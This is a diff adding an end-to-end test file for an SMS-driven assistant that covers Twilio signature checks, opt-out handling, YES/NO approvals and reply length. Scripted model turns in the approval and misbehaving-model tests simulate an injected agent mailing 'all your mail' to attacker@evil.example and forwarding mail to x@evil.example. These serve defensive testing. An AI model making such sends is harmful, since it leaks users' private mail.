@@ -1,0 +1,423 @@
+import type { FastifyInstance } from 'fastify';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { twilioSignature } from '../src/providers/sms/twilio-signature';
+import { bearer, signIn } from './helpers/auth';
+import { build } from './helpers/build';
+import { authorize } from './helpers/oauth-flow';
+import { freePort } from './helpers/process';
+import { scriptedLlm } from './helpers/scripted-llm';
+import { fakeTwilio } from './helpers/twilio-fake';
+
+/**
+ * The assistant end to end over real HTTP: Twilio's signed webhook in, the durable queue, the
+ * gate, the agent with a scripted model behind the real OpenAI-compatible adapter, approvals,
+ * and the replies out through the real Twilio adapter to a loopback Twilio.
+ */
+const SID = `AC${'b2'.repeat(16)}`;
+const TOKEN = 'twilio-assistant-auth-token-0123456789';
+const OUR_NUMBER = '+15017122661';
+let app: FastifyInstance;
+let close: () => Promise<void>;
+let base = '';
+let sidCounter = 0;
+const twilio = fakeTwilio(({ form }) => ({
+  status: 201,
+  body: { sid: `SM${String((sidCounter += 1)).padStart(32, '0')}`, status: 'queued', to: form.get('To') },
+}));
+const llm = scriptedLlm();
+
+beforeAll(async () => {
+  const twilioUrl = await twilio.start();
+  const llmUrl = await llm.start();
+  const port = await freePort();
+  base = `http://127.0.0.1:${port}`;
+  ({ app, close } = await build({
+    PUBLIC_URL: base,
+    TWILIO_ACCOUNT_SID: SID,
+    TWILIO_AUTH_TOKEN: TOKEN,
+    TWILIO_FROM: OUR_NUMBER,
+    TWILIO_BASE_URL: twilioUrl,
+    LLM_BASE_URL: `${llmUrl}/v1`,
+    LLM_MODEL: 'scripted',
+    ASSISTANT_TURN_TIMEOUT_MS: '3000',
+    JOBS_POLL_INTERVAL_MS: '50',
+    ASSISTANT_RETRY_BASE_MS: '20',
+  }));
+  await app.listen({ port, host: '127.0.0.1' });
+});
+afterAll(async () => {
+  await close();
+  await twilio.stop();
+  await llm.stop();
+});
+beforeEach(() => {
+  llm.script([]);
+});
+
+let messageCounter = 0;
+/** A text as Twilio delivers it: form-encoded and signed over our configured URL. */
+async function text(from: string, body: string, options: { sid?: string; signature?: string } = {}) {
+  messageCounter += 1;
+  const form = {
+    MessageSid: options.sid ?? `SM${Date.now()}${messageCounter}`,
+    AccountSid: SID,
+    From: from,
+    To: OUR_NUMBER,
+    Body: body,
+    NumMedia: '0',
+  };
+  return app.inject({
+    method: 'POST',
+    url: '/v1/sms/inbound',
+    headers: {
+      'content-type': 'application/x-www-form-urlencoded',
+      'x-twilio-signature': options.signature ?? twilioSignature(TOKEN, `${base}/v1/sms/inbound`, form),
+    },
+    payload: new URLSearchParams(form).toString(),
+  });
+}
+
+const sentTo = (to: string) =>
+  twilio.seen.filter((s) => s.form.get('To') === to).map((s) => s.form.get('Body') ?? '');
+
+/** Waits until `count` texts went to the number, then a little longer to catch any extra one. */
+async function repliesTo(to: string, count: number): Promise<string[]> {
+  const deadline = Date.now() + 10_000;
+  while (sentTo(to).length < count && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
+  await new Promise((r) => setTimeout(r, 150));
+  return sentTo(to);
+}
+
+/** With Twilio configured, sign-in codes go to the fake Twilio, as to a phone. */
+async function codeFromTwilio(_app: FastifyInstance, phone: string): Promise<string> {
+  const body = sentTo(phone).at(-1) ?? '';
+  const code = /\b(\d{5})\b/.exec(body)?.[1];
+  expect(code, `no code texted to ${phone}`).toBeDefined();
+  return code!;
+}
+
+let phoneCounter = 0;
+function newNumber(): string {
+  phoneCounter += 1;
+  return `+61416${String(Date.now() % 10_000).padStart(4, '0')}${String(phoneCounter).padStart(2, '0')}`;
+}
+
+/** A person who signed in with their number, started the trial and connected Google. */
+async function person(options: { trial?: boolean; google?: boolean } = {}) {
+  const phone = newNumber();
+  const token = await signIn(app, phone, codeFromTwilio);
+  // The code's text is not one of the assistant's replies.
+  for (let i = twilio.seen.length - 1; i >= 0; i -= 1)
+    if (twilio.seen[i]!.form.get('To') === phone) twilio.seen.splice(i, 1);
+  if (options.trial ?? true) {
+    const trial = await app.inject({
+      method: 'POST',
+      url: '/v1/billing/activate-trial',
+      headers: bearer(token),
+    });
+    expect(trial.statusCode, trial.body).toBe(200);
+  }
+  if (options.google ?? true) {
+    const connected = await authorize(
+      base,
+      'google',
+      { email: `a${phoneCounter}-${Date.now()}@example.com` },
+      { token },
+    );
+    expect(connected.params.get('success')).toBe('true');
+  }
+  const me = (await app.inject({ method: 'GET', url: '/v1/auth/me', headers: bearer(token) })).json();
+  return { phone, token, userId: me.user.id as string };
+}
+
+describe('the Twilio webhook', () => {
+  it('answers a signed text with empty TwiML at once, and the reply goes out later', async () => {
+    const { phone } = await person();
+    llm.script([{ text: 'Hello from the assistant.' }]);
+    const res = await text(phone, 'hi');
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.headers['content-type']).toMatch(/^text\/xml/);
+    expect(res.body).toBe('<?xml version="1.0" encoding="UTF-8"?><Response/>');
+    expect(await repliesTo(phone, 1)).toEqual(['Hello from the assistant.']);
+    const [request] = twilio.seen.filter((s) => s.form.get('To') === phone);
+    expect(request!.form.get('From')).toBe(OUR_NUMBER);
+  });
+
+  it('refuses a wrong, missing or replayed-elsewhere signature with 403, storing nothing', async () => {
+    const phone = newNumber();
+    const before = await app.db.selectFrom('assistant_messages').select('id').execute();
+    expect((await text(phone, 'hi', { signature: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA=' })).statusCode).toBe(403);
+    const form = { MessageSid: 'SMx', From: phone, To: OUR_NUMBER, Body: 'hi' };
+    // Signed for another host: the Host header does not make it ours.
+    const elsewhere = await app.inject({
+      method: 'POST',
+      url: '/v1/sms/inbound',
+      headers: {
+        host: 'evil.example',
+        'content-type': 'application/x-www-form-urlencoded',
+        'x-twilio-signature': twilioSignature(TOKEN, 'https://evil.example/v1/sms/inbound', form),
+      },
+      payload: new URLSearchParams(form).toString(),
+    });
+    expect(elsewhere.statusCode).toBe(403);
+    const missing = await app.inject({
+      method: 'POST',
+      url: '/v1/sms/inbound',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      payload: new URLSearchParams(form).toString(),
+    });
+    expect(missing.statusCode).toBe(403);
+    const after = await app.db.selectFrom('assistant_messages').select('id').execute();
+    expect(after.length).toBe(before.length);
+  });
+
+  it('processes a repeated MessageSid once', async () => {
+    const { phone } = await person();
+    llm.script([{ text: 'Once.' }], { text: 'Twice?!' });
+    const sid = `SMrepeat${Date.now()}`;
+    expect((await text(phone, 'hi', { sid })).statusCode).toBe(200);
+    expect((await text(phone, 'hi', { sid })).statusCode).toBe(200);
+    expect(await repliesTo(phone, 1)).toEqual(['Once.']);
+  });
+
+  it('records delivery status callbacks', async () => {
+    const { phone } = await person();
+    llm.script([{ text: 'Status?' }]);
+    await text(phone, 'hi');
+    await repliesTo(phone, 1);
+    const row = await app.db
+      .selectFrom('assistant_messages')
+      .select(['provider_sid', 'status'])
+      .where('phone', '=', phone)
+      .where('direction', '=', 'out')
+      .executeTakeFirstOrThrow();
+    const form = { MessageSid: row.provider_sid!, MessageStatus: 'delivered' };
+    const res = await app.inject({
+      method: 'POST',
+      url: '/v1/sms/status',
+      headers: {
+        'content-type': 'application/x-www-form-urlencoded',
+        'x-twilio-signature': twilioSignature(TOKEN, `${base}/v1/sms/status`, form),
+      },
+      payload: new URLSearchParams(form).toString(),
+    });
+    expect(res.statusCode).toBe(204);
+    const after = await app.db
+      .selectFrom('assistant_messages')
+      .select('status')
+      .where('provider_sid', '=', row.provider_sid)
+      .executeTakeFirstOrThrow();
+    expect(after.status).toBe('delivered');
+  });
+});
+
+describe('before any model runs', () => {
+  it('honours STOP, then sends nothing until START; HELP is answered', async () => {
+    const { phone } = await person();
+    await text(phone, 'STOP');
+    expect((await repliesTo(phone, 1))[0]).toMatch(/unsubscribed/);
+    llm.script([{ text: 'should never be sent' }]);
+    await text(phone, 'what is on today?');
+    await new Promise((r) => setTimeout(r, 400));
+    expect(sentTo(phone)).toHaveLength(1);
+    await text(phone, 'HELP');
+    expect((await repliesTo(phone, 2))[1]).toMatch(/STOP/);
+    await text(phone, 'start');
+    expect((await repliesTo(phone, 3))[2]).toMatch(/subscribed/);
+    llm.script([{ text: 'Back again.' }]);
+    await text(phone, 'hello');
+    expect((await repliesTo(phone, 4))[3]).toBe('Back again.');
+  });
+
+  it('answers an unknown number once a day, with the sign-up link, and never runs the model', async () => {
+    const stranger = newNumber();
+    const calls = llm.requests.length;
+    await text(stranger, 'hello?');
+    await text(stranger, 'anyone?');
+    const replies = await repliesTo(stranger, 1);
+    expect(replies).toHaveLength(1);
+    expect(replies[0]).toContain(`${base}/login`);
+    expect(llm.requests.length).toBe(calls);
+  });
+
+  it('answers a person without a plan once, with the trial link', async () => {
+    const { phone } = await person({ trial: false, google: false });
+    const calls = llm.requests.length;
+    await text(phone, 'hi');
+    await text(phone, 'hi again');
+    const replies = await repliesTo(phone, 1);
+    expect(replies).toHaveLength(1);
+    expect(replies[0]).toContain(`${base}/billing`);
+    expect(llm.requests.length).toBe(calls);
+  });
+
+  it('answers a person past the plan tokens once, with the upgrade link, and no model call', async () => {
+    const { phone, userId } = await person({ google: false });
+    await app.db
+      .insertInto('usage_hourly')
+      .values({
+        user_id: userId,
+        hour: new Date(Math.floor(Date.now() / 3_600_000) * 3_600_000).toISOString(),
+        tokens: 1_000_000,
+      })
+      .execute();
+    const calls = llm.requests.length;
+    await text(phone, 'hi');
+    await text(phone, 'hi again');
+    const replies = await repliesTo(phone, 1);
+    expect(replies).toHaveLength(1);
+    expect(replies[0]).toMatch(/allowance/);
+    expect(llm.requests.length).toBe(calls);
+  });
+});
+
+describe('nothing is sent or changed without a yes', () => {
+  /** A title no sample event has, so the events with it are the ones these tests made. */
+  const LUNCH = 'Lunch with Sam at the harbour';
+  const tomorrowNoon = () => {
+    const d = new Date(Date.now() + 24 * 3_600_000);
+    return `${d.toISOString().slice(0, 10)}T12:00`;
+  };
+  const bookLunch = () => ({
+    tools: [
+      {
+        name: 'calendar_create_event',
+        arguments: JSON.stringify({
+          title: LUNCH,
+          start: tomorrowNoon(),
+          attendees: ['sam@example.com'],
+        }),
+      },
+    ],
+  });
+  /** The sample workspace's events with that title, whoever owns them. */
+  const lunches = async (_userId: string) => {
+    const rows = await app.db
+      .selectFrom('sample_workspace_items')
+      .select('data')
+      .where('kind', '=', 'event')
+      .execute();
+    return rows.map((r) => JSON.parse(r.data) as { title: string }).filter((e) => e.title === LUNCH);
+  };
+
+  it('asks by text, runs the action on YES once, and a second YES finds nothing pending', async () => {
+    const { phone, userId } = await person();
+    const before = (await lunches(userId)).length;
+    llm.script([bookLunch()]);
+    await text(phone, 'book lunch with Sam tomorrow at 12');
+    const [ask] = await repliesTo(phone, 1);
+    expect(ask).toContain(LUNCH);
+    expect(ask).toMatch(/Reply YES to confirm, NO to cancel\./);
+    // The model's call alone changed nothing.
+    expect(await lunches(userId)).toHaveLength(before);
+    await text(phone, 'YES');
+    expect((await repliesTo(phone, 2))[1]).toMatch(/^Done: /);
+    expect(await lunches(userId)).toHaveLength(before + 1);
+    await text(phone, 'yes');
+    expect((await repliesTo(phone, 3))[2]).toMatch(/Nothing is waiting/);
+    expect(await lunches(userId)).toHaveLength(before + 1);
+  });
+
+  it('cancels on NO, and a YES from another number approves nothing', async () => {
+    const ana = await person();
+    const bob = await person();
+    llm.script([bookLunch()]);
+    await text(ana.phone, 'book lunch');
+    await repliesTo(ana.phone, 1);
+    await text(bob.phone, 'YES');
+    expect((await repliesTo(bob.phone, 1))[0]).toMatch(/Nothing is waiting/);
+    await text(ana.phone, 'no');
+    expect((await repliesTo(ana.phone, 2))[1]).toMatch(/Cancelled/);
+    const approval = await app.db
+      .selectFrom('assistant_approvals')
+      .select('status')
+      .where('user_id', '=', ana.userId)
+      .executeTakeFirstOrThrow();
+    expect(approval.status).toBe('declined');
+  });
+
+  it('lets an approval lapse after 30 minutes', async () => {
+    const { phone, userId } = await person();
+    llm.script([bookLunch()]);
+    await text(phone, 'book lunch');
+    await repliesTo(phone, 1);
+    await app.db
+      .updateTable('assistant_approvals')
+      .set({ expires_at: new Date(Date.now() - 1000).toISOString() })
+      .where('user_id', '=', userId)
+      .execute();
+    const before = (await lunches(userId)).length;
+    await text(phone, 'YES');
+    expect((await repliesTo(phone, 2))[1]).toMatch(/Nothing is waiting/);
+    expect(await lunches(userId)).toHaveLength(before);
+  });
+
+  it('flags a recipient nobody has seen once the turn read outside content', async () => {
+    const { phone } = await person();
+    llm.script([
+      { tools: [{ name: 'mail_search', arguments: JSON.stringify({ unread: true }) }] },
+      {
+        tools: [
+          {
+            name: 'mail_send',
+            arguments: JSON.stringify({
+              to: ['attacker@evil.example'],
+              subject: 'fwd',
+              text: 'all your mail',
+            }),
+          },
+        ],
+      },
+    ]);
+    await text(phone, 'check my mail');
+    const [ask] = await repliesTo(phone, 1);
+    expect(ask).toMatch(/Not in your contacts or this thread: attacker@evil\.example/);
+    expect(ask).toMatch(/Reply YES to send/);
+    expect(sentTo('attacker@evil.example')).toEqual([]);
+  });
+});
+
+describe('a misbehaving model', () => {
+  it('gets an answer to the person when the model calls a tool that does not exist, or writes nonsense', async () => {
+    const { phone } = await person();
+    llm.script([
+      { tools: [{ name: 'forward_all_mail', arguments: '{"to":"x@evil.example"}' }] },
+      { tools: [{ name: 'calendar_list_events', arguments: '{not json' }] },
+      { text: 'Sorry, I could not do that.' },
+    ]);
+    await text(phone, 'do something');
+    const [reply] = await repliesTo(phone, 1);
+    expect(reply).toBeTruthy();
+  });
+
+  it('apologises once when the model keeps failing', async () => {
+    const { phone } = await person();
+    llm.script([], { status: 500, body: '{"error":{"message":"boom"}}' });
+    await text(phone, 'hi');
+    const replies = await repliesTo(phone, 1);
+    expect(replies).toHaveLength(1);
+    expect(replies[0]).toMatch(/Sorry/);
+  }, 60_000);
+});
+
+describe('replies', () => {
+  it('cut a long answer at a sentence within 3 segments, saying where the rest is', async () => {
+    const { phone } = await person();
+    const sentence = 'This is a sentence about your day. ';
+    llm.script([{ text: sentence.repeat(40) }]);
+    await text(phone, 'tell me everything');
+    const [reply] = await repliesTo(phone, 1);
+    expect(reply!.length).toBeLessThanOrEqual(459);
+    expect(reply).toMatch(/day\. The rest is in the app: /);
+  });
+
+  it('cut Chinese at 3 UCS-2 segments', async () => {
+    const { phone, userId } = await person();
+    await app.usersRepo.update(userId, { language: 'zh', updated_at: new Date().toISOString() });
+    llm.script([{ text: '这是关于您今天安排的一句话。'.repeat(30) }]);
+    await text(phone, '告诉我全部');
+    const [reply] = await repliesTo(phone, 1);
+    expect(reply!.length).toBeLessThanOrEqual(201);
+    expect(reply).toMatch(/。 ?其余内容请在应用中查看：/);
+  });
+});
